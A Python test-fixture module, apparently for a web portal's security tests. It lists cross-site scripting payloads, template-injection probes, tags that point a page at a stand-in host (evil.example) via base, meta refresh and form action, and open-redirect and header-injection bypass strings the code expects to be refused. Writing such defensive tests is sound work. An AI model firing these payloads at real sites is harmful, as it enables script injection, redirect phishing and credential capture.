"""What one who means harm writes where the portal takes text, a name or an address to come back to."""

from __future__ import annotations

RUNS = "document.title='executed'"
# What a template would make of it has so many digits that no identifier holds them by chance.
SUM, RESULT = "98765*43211", str(98765 * 43211)

# Each would run in a page that took it for its own markup, attribute, script, address or template.
SCRIPTS = [
    f"<script>{RUNS}</script>",
    f"</textarea></title><script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src=x onerror="{RUNS}">',
    f"'><svg/onload={RUNS}>",
    f'" autofocus onfocus="{RUNS}" x="',
    f"' onmouseover='{RUNS}' style='position:fixed;inset:0",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<a href=javascript:{RUNS}>ici</a>",
    f"<details open ontoggle={RUNS}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUNS}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"--></script><script>{RUNS}</script><!--",
    f"</script><script>{RUNS}</script>",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example><input name=jeton>",
    "<button hx-get=https://evil.example hx-trigger=load>",
    f"<div hx-on:click={RUNS} hx-trigger=load data-hx-get=/aide>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"{{{{{SUM}}}}}${{{SUM}}}#{{{SUM}}}<%={SUM}%>{{% raw %}}",
]

# As file names: no path, and short enough to be kept whole.
NAMES = [f"{text.replace('/', ' ')}.pdf" for text in SCRIPTS if len(text) < 150]

ELSEWHERE = [
    "//evil.example",
    "///evil.example",
    "////evil.example/..",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "https://evil.example",
    "https:evil.example",
    "https:/evil.example",
    "HTTPS://evil.example",
    "http:\\\\evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "\t//evil.example",
    " //evil.example",
    "\u00a0//evil.example",
    "/\u0000/evil.example",
    "//evil.example%2f@127.0.0.1",
    "//127.0.0.1@evil.example",
    "//[::1]@evil.example",
    "//evil.example:80%40127.0.0.1/",
    "/demandes\r\nLocation: https://evil.example",
    "/demandes\u2028//evil.example",
    "@evil.example",
    ".evil.example",
    "evil.example",
    "?next=//evil.example",
    "",
]
"""Of these nothing is followed: the way leads home."""

HARMLESS = [
    "/%2f%2fevil.example",
    "/%5cevil.example",
    "/demandes?retour=//evil.example",
    "/demandes#//evil.example",
    "/.//evil.example",
    "/../../evil.example",
    "/evil.example//x",
    "/demandes%0d%0aLocation:%20https://evil.example",
]
"""Odd, and addresses of this site all the same."""
